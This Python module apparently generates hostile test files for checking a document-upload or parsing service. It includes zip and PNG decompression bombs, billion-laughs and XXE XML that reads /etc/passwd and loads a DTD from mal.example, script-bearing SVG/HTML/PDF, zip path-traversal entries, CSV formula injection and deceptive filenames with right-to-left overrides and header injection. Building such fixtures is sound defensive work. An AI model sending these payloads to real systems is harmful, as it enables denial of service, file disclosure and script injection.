"""Files that are more than they seem: each small to send, and ruinous or treacherous to whoever opens it trustingly."""

import gzip
import struct
import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

_MILLION = 1_000_000
_ZEROS = b"\x00" * (20 * _MILLION)
_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "' + b"zq" * 500 + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(8))
    + b"]><z>&i;</z>"
)  # fmt: skip
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY %% p SYSTEM "http://mal.example/zq.dtd"> %%p;]><z>&x;</z>'.replace(
    b"%%", b"%"
)
_DEEP = b"<?xml version='1.0'?>" + b"<z>" * 100_000 + b"</z>" * 100_000
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="zq(1)"><script>zq(1)</script></svg>'
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
_INSIDE = {
    "docx": ("[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels", "word/comments.xml"),
    "odt": ("mimetype", "content.xml", "META-INF/manifest.xml", "styles.xml"),
    "xlsx": ("[Content_Types].xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"),
    "ods": ("mimetype", "content.xml", "META-INF/manifest.xml", "styles.xml"),
}


def _parcel(parts: dict[str, bytes]) -> bytes:
    written = BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED, compresslevel=1) as parcel:
        for name, data in parts.items():
            parcel.writestr(name, data)
    return written.getvalue()


def _document(kind: str, part: bytes) -> bytes:
    """Return an Office file each part of which is this."""
    mimetype = {
        "odt": b"application/vnd.oasis.opendocument.text",
        "ods": b"application/vnd.oasis.opendocument.spreadsheet",
    }
    told = {"mimetype": mimetype.get(kind, b""), "[Content_Types].xml": _TYPES}
    return _parcel({name: told.get(name, part) for name in _INSIDE[kind]})


def _picture(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(_ZEROS, 1))
        + chunk(b"zTXt", b"zq\x00\x00" + zlib.compress(_ZEROS, 1))
        + chunk(b"IEND", b"")
    )


@cache
def files() -> tuple[tuple[str, bytes], ...]:
    """Return each file with the name it comes under."""
    return tuple(_files())


def _files() -> Iterator[tuple[str, bytes]]:
    zeros = b"<z>" + _ZEROS + b"</z>"
    for kind, parts in _INSIDE.items():
        yield f"bombe.{kind}", _document(kind, zeros)
        yield f"entites.{kind}", _document(kind, _LAUGHS)
        yield f"dehors.{kind}", _document(kind, _OUTSIDE)
        yield f"profond.{kind}", _document(kind, _DEEP)
        yield f"vide.{kind}", _document(kind, b"")
        yield (
            f"chemins.{kind}",
            _parcel({"../../../tmp/zq": b"zq", "/etc/zq": b"zq", "C:\\zq": b"zq", **dict.fromkeys(parts, _SVG)}),
        )
        yield f"tronque.{kind}", _document(kind, _SVG)[:-30]
    once = _parcel({"z": _ZEROS})
    nested = _parcel({f"{n}.zip": once for n in range(20)})
    yield "poupees.zip", nested
    yield "poupees.docx", nested
    yield "compresse.csv", gzip.compress(_ZEROS, 1)
    yield "image.png", _picture(60_000, 60_000)
    yield "image.jpg", b"\xff\xd8\xff\xe0" + b"\xff" * 1_000
    yield "dessin.svg", _SVG
    yield "dessin.png", _SVG
    yield "page.pdf", b"<html><script>zq(1)</script></html>"
    yield (
        "piege.pdf",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(zq)>>/Pages 1 0 R>>endobj\ntrailer<</Root 1 0 R>>",
    )
    yield "page.html", _SVG
    yield "poly.pdf", b"%PDF-1.7\n" + _SVG
    yield "texte.txt", b"\xff\xfe\x00\xd8" + b"a" * 50
    yield "texte.md", "\ufeff<script>zq(1)</script>\u202e".encode()
    yield "entetes.csv", b'"' + b";" * 100_000 + b"\n=zq;+zq;@zq\n"
    yield "guillemets.csv", b'a;b\n"' + b"x" * 500_000
    yield "..\\..\\zq\u202efdp.exe", b"MZ\x90"
    yield "a" * 300 + ".pdf", b"%PDF-1.7"
    yield "\r\nSet-Cookie: zq=1.pdf", b"%PDF-1.7"
    yield ".htaccess", b"x"
    yield "", b"x"
